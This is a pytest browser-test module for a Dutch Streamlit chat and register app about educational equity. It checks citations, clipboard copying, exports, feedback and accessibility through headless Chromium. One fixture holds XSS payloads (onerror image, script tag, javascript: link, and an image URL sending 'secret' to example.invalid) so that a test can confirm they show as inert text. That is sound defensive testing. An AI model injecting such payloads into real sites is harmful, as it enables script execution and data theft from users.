"""The real app in a real browser: `streamlit run` on a local port, driven by headless Debian Chromium through Playwright."""
from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from .conftest import ROOT, corpus_index_with, free_port
from .browser_steps import clickable
from .loadtest import BROWSER_ARGS, CHROMIUM, wait_healthy

STEP_GUARD_MS = 240_000

ARTIFACTS = ROOT / "test-artifacts"
HOSTILE = (
    "Schoolreis naar Parijs <img src=x onerror=alert(1)>\n\n"
    "Het schoolreisje naar Parijs kost 450 euro per leerling volgens de ouderraad <script>alert(2)</script> "
    "en [klik hier](javascript:alert(3)) ![](http://example.invalid/?d=secret) bij de aanmelding.\n"
)

pytestmark = [pytest.mark.slow, pytest.mark.browser, pytest.mark.timeout(900), pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian chromium is not installed (make browser)")]


@pytest.fixture(scope="module")
def app(corpus_settings, tmp_path_factory):
    """The app over a copy of the corpus index, plus a document full of hostile markup (in its name too)."""
    settings = corpus_index_with(corpus_settings, tmp_path_factory.mktemp("browser"), {"schoolreis <img src=x onerror=alert(4)>.txt": HOSTILE})
    data = settings.data_dir
    port = free_port()
    env = {**os.environ, "KANSENWIJZER_DATA_DIR": str(data)}
    proc = subprocess.Popen(
        [sys.executable, "-m", "streamlit", "run", str(ROOT / "ui" / "app.py"), "--server.port", str(port), "--server.headless", "true"],
        cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )
    wait_healthy(port, proc)
    yield {"url": f"http://127.0.0.1:{port}"}
    proc.terminate()
    proc.wait(timeout=20)


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=BROWSER_ARGS)
        yield b
        b.close()


DESKTOP = {"width": 1400, "height": 1000}
PHONE = {"width": 390, "height": 844}


def open_page(browser, url, viewport=DESKTOP, **context):
    page = browser.new_context(viewport=viewport, **context).new_page()
    # Far beyond what any step takes on a loaded machine (an answer under 20 users at full load: p95 59 s), short enough that a
    # missing element fails the test in minutes rather than at the module's hang guard.
    page.set_default_timeout(STEP_GUARD_MS)
    events = {"dialogs": [], "requests": []}
    page.on("dialog", lambda d: (events["dialogs"].append(d.message), d.dismiss()))
    page.on("request", lambda r: events["requests"].append(r.url))
    page.goto(url)
    page.get_by_text("Zoeken in", exact=True).first.wait_for(state="attached")  # in the sidebar, closed on a phone
    return page, events


def settled(page) -> None:
    """Wait until the app's run is over and no element on the page is stale."""
    page.wait_for_function("() => !document.querySelector('[data-testid=stStatusWidgetRunningIcon], [data-stale=true]')")


def ask(page, question: str) -> None:
    box = page.get_by_placeholder("Stel een vraag over kansengelijkheid…")
    box.fill(question)
    box.press("Enter")
    page.get_by_text("gezocht in:").last.wait_for()
    # The conversation buttons come last in a run: once they show, the whole answer with its cards is there.
    page.get_by_role("button", name="Nieuw gesprek").wait_for()


def copy_buttons(page):
    """The first answer's copy buttons, scrolled to the middle of the screen as a user would before clicking.

    Left where Playwright scrolls a frame's button (the bottom edge), the fixed chat input covers it and the click lands on
    the page instead: Playwright checks what is on top inside the frame only (this lost 1 click in 3).
    """
    assert clickable(page, page.locator("iframe[title='Kopieerknoppen']").first)
    return page.frame_locator("iframe[title='Kopieerknoppen']").first


def test_ask_see_the_citation_and_open_the_source(app, browser):
    ARTIFACTS.mkdir(exist_ok=True)
    page, _ = open_page(browser, app["url"])
    ask(page, "Hoeveel geld ging er in 2022 naar het leerplusarrangement?")
    answer = page.get_by_test_id("stChatMessage").last
    assert "52 mln" in answer.inner_text() and "[1]" in answer.inner_text()
    assert "kenmerk 35735585" in answer.inner_text()
    highlight = answer.locator("span", has_text="52 mln").first
    assert highlight.is_visible()
    page.screenshot(path=str(ARTIFACTS / "chat-answer.png"), full_page=True)
    answer.get_by_role("button", name="Bekijk in document").first.click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_text("52 mln", exact=False).first.wait_for()
    assert "kenmerk 35735585" in dialog.inner_text()
    assert dialog.locator("span", has_text="structureel verhogen met € 105 miljoen").first.is_visible()
    # The quote is scrolled to, marked and focused, also when the document is long.
    quote = dialog.locator("[data-kw-quote]")
    quote.wait_for()
    assert "52 mln" in quote.inner_text() and quote.evaluate("e => e === e.ownerDocument.activeElement")
    box, view = quote.bounding_box(), page.viewport_size
    assert 0 <= box["y"] and box["y"] + min(box["height"], 100) <= view["height"]
    page.screenshot(path=str(ARTIFACTS / "source-viewer.png"))
    page.close()


def test_copy_buttons_put_the_quote_and_the_citation_on_the_clipboard(app, browser):
    page, _ = open_page(browser, app["url"], permissions=["clipboard-read", "clipboard-write"])
    ask(page, "Hoeveel geld ging er in 2022 naar het leerplusarrangement?")
    buttons = copy_buttons(page)
    buttons.get_by_role("button", name="Kopieer bronvermelding").click()  # enabled once its script copies
    buttons.get_by_role("status").filter(has_text="gekopieerd").wait_for()
    assert buttons.get_by_role("status").inner_text() == "Bronvermelding gekopieerd."
    citation = page.evaluate("navigator.clipboard.readText()")
    assert citation.startswith("Kamerbrief 'Visie Kansengelijkheid funderend onderwijs', 10 maart 2023") and "kenmerk 35735585" in citation
    buttons.get_by_role("button", name="Kopieer citaat").click()
    buttons.get_by_text("Citaat gekopieerd.").wait_for()
    quote = page.evaluate("navigator.clipboard.readText()")
    assert quote.startswith("“") and "52 mln" in quote and quote.endswith(citation)
    page.close()


def test_an_answer_stays_the_same_element_when_the_page_runs_again(app, browser):
    """A rerun (any click) draws the conversation from history: its first answer must be the element that was there.

    The answer is drawn while streaming under a spinner; drawn at another place in its message, a rerun replaced every
    element after it, so a copy button's status vanished and a click on it could be lost.
    """
    page, _ = open_page(browser, app["url"], permissions=["clipboard-read", "clipboard-write"])
    ask(page, "Hoeveel geld ging er in 2022 naar het leerplusarrangement?")
    settled(page)
    buttons = copy_buttons(page)
    buttons.get_by_role("button", name="Kopieer bronvermelding").click()
    buttons.get_by_role("status").filter(has_text="gekopieerd").wait_for()
    page.get_by_test_id("stChatMessage").last.get_by_role("button", name="Bekijk in document").first.click()
    page.get_by_role("dialog").wait_for()  # the page ran again
    settled(page)
    page.keyboard.press("Escape")
    assert buttons.get_by_role("status").inner_text() == "Bronvermelding gekopieerd."
    page.close()


@pytest.mark.parametrize("viewport", [{"width": 1280, "height": 800}, PHONE], ids=["desktop", "phone"])
def test_a_follow_up_is_read_with_the_earlier_question_and_can_be_corrected(app, browser, viewport):
    page, _ = open_page(browser, app["url"], viewport)
    ask(page, "Hoe zit het met de vrijwillige ouderbijdrage?")
    ask(page, "En wat doet de overheid daaraan?")
    answer = page.get_by_test_id("stChatMessage").last
    read_as = answer.get_by_text("Ik lees je vraag als:")
    assert "ouderbijdrage" in read_as.inner_text()
    edit = answer.get_by_text("Pas de vraag aan")
    assert clickable(page, edit)
    edit.click()
    box = answer.get_by_label("Vraag zoals ik hem lees")
    assert clickable(page, box)
    box.fill("Wat doet de overheid aan de hoogte van de vrijwillige ouderbijdrage?")
    button = answer.get_by_role("button", name="Stel deze vraag")
    assert clickable(page, button)  # a user sees it and can reach it, at both sizes
    page.screenshot(path=str(ARTIFACTS / f"follow-up-edit-{viewport['width']}.png"))
    button.click()
    users = page.get_by_test_id("stChatMessage").filter(has=page.get_by_test_id("stChatMessageAvatarUser"))
    users.nth(2).wait_for()
    assert "Wat doet de overheid aan de hoogte van de vrijwillige ouderbijdrage?" in users.nth(2).inner_text()
    page.get_by_text("gezocht in:").nth(2).wait_for()  # and it was answered
    assert users.count() == 3
    page.close()


def test_quotes_from_one_passage_share_one_card_with_every_quote_highlighted(app, browser):
    page, _ = open_page(browser, app["url"])
    ask(page, "Wat staat er in de Kamerbrief van maart 2023 over het toezicht op de kwaliteit van voorschoolse educatie?")
    settled(page)
    answer = page.get_by_test_id("stChatMessage").last
    numbered = re.compile(r"Bekijk in document \[\d\]")
    views = answer.get_by_role("button", name=numbered)
    cited = views.count()
    assert cited >= 2  # several quotes, each with its own button …
    cards = answer.locator("[class*='st-key-card-']")
    card = cards.filter(has=page.get_by_role("button", name=numbered))
    assert card.count() == 1
    assert card.get_by_role("button", name=numbered).count() == cited  # … in one card
    quotes = answer.get_by_role("button", name=re.compile(r"Bekijk in document")).count()
    assert cards.count() < quotes  # fewer cards than quotes: no paragraph shown twice
    marks = card.locator("span[style*='background'], mark, [class*='orange']")
    assert marks.count() >= 2  # every quote highlighted in the one passage shown
    page.close()


def test_an_example_question_is_asked_by_clicking_it(app, browser):
    page, _ = open_page(browser, app["url"], PHONE)
    page.get_by_role("button", name="Leraar: Hoe maak ik de overstap naar het vo kansrijker?").click()
    page.get_by_text("gezocht in:").last.wait_for()
    page.get_by_role("button", name="Nieuw gesprek").wait_for()
    assert "[1]" in page.get_by_test_id("stChatMessage").last.inner_text()
    page.close()


@pytest.mark.parametrize("viewport", [DESKTOP, PHONE], ids=["desktop", "phone"])
def test_a_status_is_saved_on_the_chosen_toezegging(app, browser, viewport):
    """Filter, choose the second card, save a status: after a reload it is on that toezegging and no other."""
    note = f"Gecontroleerd op {viewport['width']} pixels breed"
    page, _ = open_page(browser, app["url"] + "/toezeggingen", viewport)
    page.locator("[class*='st-key-tz-']").first.wait_for()
    assert page.evaluate("document.documentElement.scrollWidth") <= viewport["width"]  # nothing runs off-screen
    search = page.get_by_label("Zoek in onderwerp")
    search.fill("Kamer")
    search.press("Enter")
    page.wait_for_function("() => { const m = document.body.innerText.match(/(\\d+) van (\\d+) toezeggingen/);"
                           " return m && +m[1] < +m[2]; }")
    settled(page)
    cards = page.locator("[class*='st-key-tz-']")
    assert cards.count() >= 2
    chosen = cards.nth(1)
    key = [c for c in chosen.get_attribute("class").split() if c.startswith("st-key-tz-")][0]
    quote = chosen.get_by_test_id("stMarkdownContainer").nth(2).inner_text()
    chosen.get_by_role("button", name="Bekijk en wijzig status").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_text(quote[:40], exact=False).first.wait_for()
    dialog.get_by_test_id("stSelectbox").click()
    page.keyboard.type("vervallen")  # the keyboard way works at every size; a tap on a phone may not open the list
    page.keyboard.press("Enter")
    dialog.get_by_label("Notitie").fill(note)
    dialog.get_by_role("button", name="Opslaan").click()
    page.get_by_text("De status is opgeslagen: vervallen.").wait_for()
    page.reload()
    saved = page.locator(f".{key}")
    saved.wait_for()
    assert quote in saved.inner_text() and "Status: vervallen" in saved.inner_text() and note[:60] in saved.inner_text()
    assert page.get_by_text(note[:60], exact=False).count() == 1
    page.screenshot(path=str(ARTIFACTS / f"toezeggingen-{viewport['width']}.png"), full_page=True)
    page.close()


def test_hostile_markup_in_a_document_shows_as_text(app, browser):
    page, events = open_page(browser, app["url"])
    ask(page, "Hoeveel kost het schoolreisje naar Parijs per leerling?")
    answer = page.get_by_test_id("stChatMessage").last
    text = answer.inner_text()
    assert "450 euro" in text
    assert "<script>alert(2)</script>" in text and "[klik hier](javascript:alert(3))" in text
    assert "![](http://example.invalid/?d=secret)" in text
    page.wait_for_timeout(1500)
    assert events["dialogs"] == []
    assert not [u for u in events["requests"] if "example.invalid" in u]
    assert page.locator('img[src="x"]').count() == 0 and page.locator('a[href^="javascript"]').count() == 0
    assert page.locator("script", has_text="alert(2)").count() == 0
    page.screenshot(path=str(ARTIFACTS / "hostile-document.png"), full_page=True)
    page.close()


def test_registers_pages_render(app, browser):
    page, _ = open_page(browser, app["url"] + "/toezeggingen")
    page.get_by_text("toezeggingen", exact=False).first.wait_for()
    page.get_by_text("van 7", exact=False).first.wait_for()
    page.locator("[class*='st-key-tz-']").first.wait_for()
    page.screenshot(path=str(ARTIFACTS / "toezeggingen.png"), full_page=True)
    page.goto(app["url"] + "/maatregelen?thema=armoede")
    page.get_by_text("#FixdeKloof", exact=False).first.wait_for()
    page.screenshot(path=str(ARTIFACTS / "maatregelen.png"), full_page=True)
    page.close()


def test_the_registers_as_a_user_downloads_and_reads_them(app, browser, tmp_path):
    """Toezeggingen to Excel and CSV: no lone apostrophes, list items as written, dates as dates; Maatregelen: each measure once."""
    import csv
    from datetime import datetime

    from openpyxl import load_workbook

    page, _ = open_page(browser, app["url"] + "/toezeggingen", accept_downloads=True)
    page.get_by_text("van 7", exact=False).first.wait_for()
    files = {}
    for label in ("Download Excel", "Download CSV"):
        settled(page)  # a click while the page still runs can land on a button the run then replaces, and no download comes
        with page.expect_download() as download:
            page.get_by_role("button", name=label).click()
        files[label] = tmp_path / download.value.suggested_filename
        download.value.save_as(files[label])
    sheet = load_workbook(files["Download Excel"]).active
    cells = [c.value for row in sheet.iter_rows(min_row=2) for c in row]
    assert cells and not [v for v in cells if isinstance(v, str) and (v == "'" or v.startswith("'- "))]
    assert None in cells  # empty cells stay empty
    assert any(isinstance(v, datetime) for v in cells)  # the letters' dates are dates, not text
    with open(files["Download CSV"], encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f, delimiter=";"))
    assert len(rows) == sheet.max_row > 1 and not [v for r in rows for v in r if v == "'" or v.startswith("'- ")]
    page.goto(app["url"] + "/maatregelen")
    page.get_by_text("maatregelen", exact=False).first.wait_for()
    search = page.get_by_label("Zoeken")
    for words, name in (("brugklas", "Brede brugklas"), ("leerplusarrangement", "Leerplusarrangement"), ("schooldag", "Rijke schooldag")):
        search.fill(words)
        search.press("Enter")
        page.locator("[data-testid='stExpander'] summary", has_text=name).first.wait_for()
        settled(page)
        titles = [t.strip().splitlines()[-1] for t in page.locator("[data-testid='stExpander'] summary").all_inner_texts()]  # after its icon
        assert len([t for t in titles if t.lower().startswith(name.lower())]) == 1, titles  # one entry, all its sources
        assert not [t for t in titles if "verrijkte schooldag" in t.lower() or "brede brugklassen" in t.lower()], titles
    page.close()


def test_streamlits_own_texts_are_dutch(app, browser):
    page, _ = open_page(browser, app["url"] + "/documenten")
    page.get_by_test_id("stFileUploaderDropzone").first.wait_for()
    page.wait_for_function("() => document.documentElement.lang === 'nl'")
    uploader = page.get_by_test_id("stFileUploader").first
    page.wait_for_function("() => document.querySelector('[data-testid=stFileUploaderDropzone]').innerText.includes('per bestand')")
    text = uploader.inner_text()
    assert "Bestand kiezen" in text and "per bestand" in text
    assert not [w for w in ("Browse files", "Drag and drop", "per file", "Upload\n") if w in text + "\n"]
    page.close()


def test_feedback_is_stored_listed_and_exported_as_questions(app, browser):
    import json

    page, _ = open_page(browser, app["url"])
    ask(page, "Wat is de arbeidsmarkttoelage voor leraren?")
    answer = page.get_by_test_id("stChatMessage").last
    answer.get_by_test_id("stFeedbackButton").first.click()  # thumbs up
    answer.get_by_label("Opmerking (optioneel)").fill("Duidelijk, met bron")
    answer.get_by_role("button", name="Feedback versturen").click()
    page.get_by_text("Bedankt voor uw feedback (goed).").wait_for()
    page.goto(app["url"] + "/feedback")
    page.get_by_text("1 beoordelingen: 1 goed, 0 niet goed").wait_for()
    with page.expect_download() as download:
        page.get_by_role("button", name="Download als vragenset (JSONL)").click()
    assert download.value.suggested_filename.startswith("kansenwijzer-feedback-vragen-")
    item = json.loads(Path(download.value.path()).read_text(encoding="utf-8").splitlines()[0])
    assert item["q"] == "Wat is de arbeidsmarkttoelage voor leraren?" and item["answerable"] is True and item["gold"]
    assert item["feedback"]["remark"] == "Duidelijk, met bron"
    page.close()


@pytest.fixture(scope="module")
def axe(tmp_path_factory):
    """axe-core from the npm registry, unpacked in a temp folder for this run (nothing vendored in the repository)."""
    import shutil
    import tarfile

    npm = shutil.which("npm")
    if not npm:
        pytest.skip("npm is not installed: axe-core cannot be fetched")
    folder = tmp_path_factory.mktemp("axe")
    got = subprocess.run([npm, "pack", "axe-core@4", "--pack-destination", str(folder)], capture_output=True, text=True, timeout=300)
    if got.returncode != 0:
        pytest.skip(f"npm pack axe-core failed: {got.stderr[-300:]}")
    with tarfile.open(next(folder.glob("axe-core-*.tgz"))) as tar:
        tar.extract("package/axe.min.js", folder, filter="data")
    return folder / "package" / "axe.min.js"


def serious_violations(page, axe) -> list[dict]:
    """Serious and critical WCAG 2.1 AA violations that a user sees: found again a second later, after the page settled.
    (Once, in 1 of about 30 runs, a caption failed colour contrast in one check only: measured while the page was still
    drawing it.)"""
    page.add_script_tag(path=str(axe))
    check = """async () => {
        const r = await axe.run(document, {runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa']});
        return r.violations.filter(v => v.impact === 'serious' || v.impact === 'critical')
                 .map(v => ({id: v.id, impact: v.impact, help: v.help, nodes: v.nodes.slice(0, 3).map(n => n.target.join(' '))}));
    }"""
    found = page.evaluate(check)
    if not found:
        return []
    page.wait_for_timeout(1000)
    settled(page)
    again = page.evaluate(check)
    return [v for v in again if v["id"] in {f["id"] for f in found}]


@pytest.mark.parametrize("viewport", [DESKTOP, PHONE], ids=["desktop", "phone"])
def test_no_serious_accessibility_violations_on_any_page(app, browser, axe, viewport):
    page, _ = open_page(browser, app["url"], viewport)
    ask(page, "Hoeveel geld ging er in 2022 naar het leerplusarrangement?")
    found = {"chat": serious_violations(page, axe)}
    for path, ready in (("toezeggingen", "[class*='st-key-tz-']"), ("maatregelen", "[data-testid=stExpander]"),
                        ("documenten", "[data-testid=stFileUploader]"), ("feedback", "h1")):
        page.goto(f"{app['url']}/{path}")
        page.locator(ready).first.wait_for()
        settled(page)
        found[path] = serious_violations(page, axe)
    assert not any(found.values()), found
    page.close()
